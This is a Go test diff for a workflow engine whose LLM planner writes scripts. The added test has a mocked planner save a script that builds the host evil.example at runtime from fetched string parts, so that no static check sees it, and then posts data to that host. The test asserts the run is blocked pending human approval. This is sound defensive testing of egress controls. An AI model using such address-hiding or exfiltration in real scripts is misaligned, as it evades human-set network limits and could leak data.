@@ -15,6 +15,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/kintsugi-run/kintsugi/domain/event"
+	"github.com/kintsugi-run/kintsugi/domain/failure"
 	"github.com/kintsugi-run/kintsugi/domain/thread"
 	"github.com/kintsugi-run/kintsugi/domain/workflow"
 	"github.com/kintsugi-run/kintsugi/handlers"
@@ -349,6 +350,30 @@ func TestWhatAPlannerCannotDo(t *testing.T) {
 	require.Equal(t, settings, state.Settings)
 	require.Empty(t, state.Schedule.Spec)
 	require.False(t, server.Sees("theirs"), "of another workflow nothing is shown")
+}
+
+// An address that a planner's script puts together shows in no check of it: its run is stopped there,
+// before a name is looked up, and the person is told which host that was.
+func TestARunOfAPlannersScriptIsStoppedAtAStranger(t *testing.T) {
+	t.Parallel()
+	n := newWorld(t).open(nil)
+	defer n.close()
+	n.outside.answer("/refunds", 200, `["evil", "example"]`)
+	id := n.create("function main() {}", workflow.Settings{AllowedHosts: []string{n.outside.host()}})
+	built := n.outside.local(`async function main() {
+  const parts = await web.getJSON('BASE/refunds');
+  try { await web.postJSON(['https:', '', parts.join('.'), 'x'].join('/'), parts); } catch (e) { return 'gone on'; }
+}`)
+	server := llmtest.Serve(t, llmtest.Call("save", map[string]any{"code": built, "comment": "c"}), llmtest.Text("Done."))
+	n.plans(server.Model())
+	n.wish(id, "Do your worst", false)
+	require.NoError(t, n.settle(t.Context()))
+	require.Equal(t, workflow.Version{Major: 2}, n.state(id).Active)
+	stopped := n.admit(id, `{}`)
+	require.NoError(t, n.settle(t.Context()))
+	require.Equal(t, failure.Permission, n.run(stopped).Failure.Class)
+	require.Contains(t, n.run(stopped).Failure.Message, "no person has named evil.example; to let this workflow reach it")
+	require.Equal(t, workflow.StatusWaiting, n.state(id).Status)
 }
 
 // A person may name a host in an answer: then it can be read.
